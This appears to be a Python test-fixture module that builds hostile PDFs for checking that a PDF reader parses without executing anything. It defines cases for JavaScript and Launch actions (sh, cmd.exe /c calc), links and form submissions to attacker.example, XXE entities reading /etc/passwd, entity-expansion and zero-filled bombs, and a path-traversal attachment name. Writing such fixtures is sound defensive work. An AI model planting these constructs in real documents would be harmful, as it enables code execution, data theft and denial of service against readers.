"""What acts when a viewer opens it: scripts, actions, embedded files, media. We only ever read."""

import io
import zlib

import pypdf

from failure.hostile_pdf.writing import WORDS, page


def _action(words):
    return page(catalog=f"/OpenAction << {words} >>", entries=f"/AA << /O << {words} >> >>")


def _embedded(data, name):
    def attach(pdf):
        inner = pdf.deflated(data, "/Type /EmbeddedFile")
        spec = pdf.add(f"<< /Type /Filespec /F ({name}) /UF ({name}) /EF << /F {inner} 0 R >> >>")
        return (
            "",
            f"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS {spec} 0 R >>]",
            (f"/Names << /EmbeddedFiles << /Names [({name}) {spec} 0 R] >> >> /AF [{spec} 0 R]"),
        )

    return page(more=attach)


def _xfa():
    def form(pdf):
        entity = (
            b'<!DOCTYPE x [<!ENTITY a "'
            + b"a" * 1000
            + b'">'
            + b"".join(b'<!ENTITY %c "%s">' % (98 + at, b"&%c;" % (97 + at) * 10) for at in range(9))
        )
        xml = pdf.stream(b"<?xml version='1.0'?>" + entity + b"]><xdp:xdp xmlns:xdp='x'>&j;</xdp:xdp>")
        return "", "", f"/AcroForm << /XFA [(template) {xml} 0 R] /Fields [] /NeedAppearances true >>"

    return page(more=form)


def _metadata():
    def xmp(pdf):
        text = b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"
        return "", "", f"/Metadata {pdf.stream(text, '/Type /Metadata /Subtype /XML')} 0 R"

    return page(more=xmp)


def _media(subtype):
    def annotate(pdf):
        data = pdf.stream(b"CWS\x0a" + b"\0" * 500)
        content = (
            "/RichMediaContent << /Assets << /Names [(a.swf) << /Type /Filespec /F (a.swf) "
            f"/EF << /F {data} 0 R >> >>] >> >>"
        )
        return "", f"/Annots [<< /Type /Annot /Subtype /{subtype} /Rect [0 0 99 99] {content} /3DD {data} 0 R >>]"

    return page(more=annotate)


def _encrypted(**options):
    writer = pypdf.PdfWriter(io.BytesIO(page()))
    writer.encrypt(**options)
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


def _encryption(words):
    return page(trailer=f"/Encrypt << {words} >> /ID [<00> <00>]")


_KEYS = f"/O <{'00' * 32}> /U <{'00' * 32}> /P -4"

CASES = {
    "javascript": lambda: _action("/S /JavaScript /JS (while \\(true\\) { app.alert\\('x'\\) })"),
    "javascript-in-names": lambda: page(
        catalog="/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (0) >>] >> >>"
    ),
    "launch": lambda: _action("/S /Launch /F (sh) /Unix (sh) /Win << /F (cmd.exe) /P (/c calc) >>"),
    "uri": lambda: _action("/S /URI /URI (https://attacker.example/?x)"),
    "uri-of-a-file": lambda: _action("/S /URI /URI (file:///etc/passwd)"),
    "go-to-remote": lambda: _action("/S /GoToR /F (//attacker.example/share/x.pdf) /D [0 /Fit]"),
    "go-to-embedded": lambda: _action("/S /GoToE /F (x.pdf) /D [0 /Fit] /T << /R /C /N (x) >>"),
    "submit-form": lambda: _action("/S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> /Flags 4"),
    "import-data": lambda: _action("/S /ImportData /F (secrets.fdf)"),
    "rendition": lambda: _action("/S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (x) >> >>"),
    "embedded-program": lambda: _embedded(b"\x7fELF" + b"\0" * 2000, "x.exe"),
    "embedded-bomb": lambda: _embedded(b"\0" * 50_000_000, "x.bin"),
    "embedded-name-of-a-path": lambda: _embedded(b"x", "../../../../etc/cron.d/x"),
    "embedded-form-in-form": lambda: _embedded(page(), "form.pdf"),
    "external-content": lambda: page(
        more=lambda pdf: (
            f"/XObject << /X {pdf.stream(b'', '/Subtype /Image /Width 9 /Height 9 /F (/etc/passwd)')} 0 R >>",
        )
    ),
    "reference-xobject": lambda: page(
        WORDS + b"/X Do",
        more=lambda pdf: (
            (
                "/XObject << /X "
                f"{pdf.stream(b'', '/Subtype /Form /BBox [0 0 9 9] /Ref << /F (/etc/passwd) /Page 0 >>')} 0 R >>"
            ),
        ),
    ),
    "xfa-entities": _xfa,
    "metadata-entity": _metadata,
    "rich-media": lambda: _media("RichMedia"),
    "three-d": lambda: _media("3D"),
    "movie": lambda: _media("Movie"),
    "encrypted-user-password": lambda: _encrypted(user_password="secret", algorithm="RC4-128"),
    "encrypted-owner-password": lambda: _encrypted(user_password="", owner_password="owner", algorithm="RC4-128"),
    "encrypted-aes": lambda: _encrypted(user_password="secret", algorithm="AES-256"),
    "encrypted-40-bit": lambda: _encrypted(user_password="x", algorithm="RC4-40"),
    "encryption-unknown": lambda: _encryption("/Filter /Nobody /V 9 /R 9"),
    "encryption-empty": lambda: _encryption(""),
    "encryption-key-length": lambda: _encryption(f"/Filter /Standard /V 2 /R 3 /Length 99999999 {_KEYS}"),
    "encryption-key-negative": lambda: _encryption(f"/Filter /Standard /V 2 /R 3 /Length -8 {_KEYS}"),
    "encryption-by-certificate": lambda: _encryption("/Filter /Adobe.PubSec /V 4 /SubFilter /adbe.pkcs7.s5"),
    "encryption-revision-6": lambda: _encryption(
        f"/Filter /Standard /V 5 /R 6 /O <{'00' * 48}> /U <{'00' * 48}> /OE <{'00' * 32}> /UE <{'00' * 32}> "
        "/Perms <00> /P -4 /CF << /StdCF << /CFM /AESV3 >> >> /StmF /StdCF /StrF /StdCF"
    ),
    "encryption-filter-itself": lambda: _encryption(f"/Filter /Standard /V 4 /R 4 /CF << >> /StmF /X /StrF /Y {_KEYS}"),
    "zlib-dictionary-in-annotation": lambda: page(
        more=lambda pdf: ("", f"/Annots [<< /Subtype /FreeText /RC {pdf.stream(zlib.compress(b'x' * 9), '')} 0 R >>]")
    ),
}
